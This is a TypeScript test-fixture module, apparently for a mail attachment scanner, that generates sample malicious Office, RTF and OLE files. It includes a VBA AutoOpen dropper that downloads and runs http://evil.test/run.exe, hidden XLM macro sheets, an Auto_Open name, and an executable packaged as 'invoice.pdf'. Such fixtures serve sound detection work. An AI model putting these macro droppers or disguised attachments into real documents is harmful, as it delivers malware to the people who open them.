import { compoundFile } from '../compound-file.ts';
import type { Attachment } from '../mails.ts';
import { docx, MAIN, officePackage, paragraph } from '../office-files.ts';
import { ole1Embedded, packageData } from '../ole-objects.ts';
import { peProgram } from '../programs.ts';
import { vbaFile, vbaProject } from '../vba.ts';

/** Documents with something in them. */

export const program = peProgram();
export const file = (name: string, content: Buffer | string): Attachment => ({
  name,
  content: Buffer.from(content as string, 'latin1'),
});

export const DROPPER = [
  'Sub AutoOpen()',
  '  Set o = CreateObject("MSXML2." & "XMLHTTP")',
  '  o.Open "GET", Chr(104) & "ttp://evil.test/run.exe"',
  '  Shell "cmd /c start run.exe"',
  'End Sub',
].join('\r\n');
export const HARMLESS = 'Sub SortRows()\r\n  Range("A1:B9").Sort Range("A1")\r\nEnd Sub\r\n';
const modules = (source: string) => [{ name: 'Module1', source }];

export const docm = (source: string): Buffer =>
  docx(paragraph('Enable content.'), {
    main: MAIN.docm,
    parts: {
      'word/vbaProject.bin': { content: vbaFile(...modules(source)), type: 'application/vnd.ms-office.vbaProject' },
    },
    relationships: [
      { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
    ],
  });
export const doc = (source: string): Buffer =>
  compoundFile({
    WordDocument: Buffer.alloc(4096),
    Macros: { clsid: '', in: vbaProject({ modules: modules(source) }) },
  });

const X = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const XM = 'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"';

const MACRO_SHEET = {
  id: 'm1',
  type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
  target: 'macrosheets/sheet1.xml',
};

export function workbook(rows: string, more: { names?: string; macros?: string } = {}): Buffer {
  const { names = '', macros } = more;
  const sheets = `<sheet name="Sheet1" r:id="s1"/>${macros === undefined ? '' : '<sheet name="Macro1" r:id="m1" state="veryHidden"/>'}`;
  return officePackage({
    parts: {
      'xl/workbook.xml': {
        content: `<workbook ${X} ${R}><sheets>${sheets}</sheets><definedNames>${names}</definedNames></workbook>`,
        type: MAIN.xlsx,
      },
      'xl/worksheets/sheet1.xml': `<worksheet ${X} ${R}><sheetData>${rows}</sheetData></worksheet>`,
      ...(macros === undefined
        ? {}
        : {
            'xl/macrosheets/sheet1.xml': {
              content: `<xm:macrosheet ${X} ${XM}><sheetData>${macros}</sheetData></xm:macrosheet>`,
              type: 'application/vnd.ms-excel.macrosheet+xml',
            },
          }),
    },
    relationships: {
      '': [{ type: 'officeDocument', target: 'xl/workbook.xml' }],
      'xl/workbook.xml': [
        { id: 's1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
        ...(macros === undefined ? [] : [MACRO_SHEET]),
      ],
    },
  });
}

export const formula = (text: string): string => `<row><c r="A1"><f>${text}</f><v>0</v></c></row>`;

/** BIFF8 (MS-XLS): a globals substream with a macro sheet of that name, which is hidden. */
export function biff(): Buffer {
  const record = (type: number, data: Buffer): Buffer => {
    const head = Buffer.alloc(4);
    head.writeUInt16LE(type, 0);
    head.writeUInt16LE(data.length, 2);
    return Buffer.concat([head, data]);
  };
  const begin = (kind: number): Buffer => record(0x809, Buffer.from([0, 6, kind, 0, ...Buffer.alloc(12)]));
  const sheet = (offset: number): Buffer => {
    const data = Buffer.concat([Buffer.alloc(4), Buffer.from([2, 1, 6, 0]), Buffer.from('Macro1')]);
    data.writeUInt32LE(offset, 0);
    return record(0x85, data);
  };
  // Auto_Open is the built-in name 1.
  const name = record(0x18, Buffer.concat([Buffer.from([0x20, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1])]));
  const globals = (offset: number): Buffer =>
    Buffer.concat([begin(5), sheet(offset), name, record(0x0a, Buffer.alloc(0))]);
  const whole = Buffer.concat([globals(globals(0).length), begin(0x40), record(0x0a, Buffer.alloc(0))]);
  return Buffer.concat([whole, Buffer.alloc(Math.max(0, 4096 - whole.length))]);
}

export const rtfObject = (hex: string, more = ''): string =>
  `{\\rtf1 See there.{\\object\\objemb${more}{\\*\\objdata ${hex}}}}`;
export const packaged = (): Buffer =>
  ole1Embedded('Package', packageData('invoice.pdf', 'C:\\tmp\\invoice.exe', program));
export const external = (type: string, target: string): Buffer =>
  docx(paragraph('x'), { relationships: [{ type, target, external: true }] });

export function lengthBefore(data: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32LE(data.length);
  return Buffer.concat([size, data]);
}
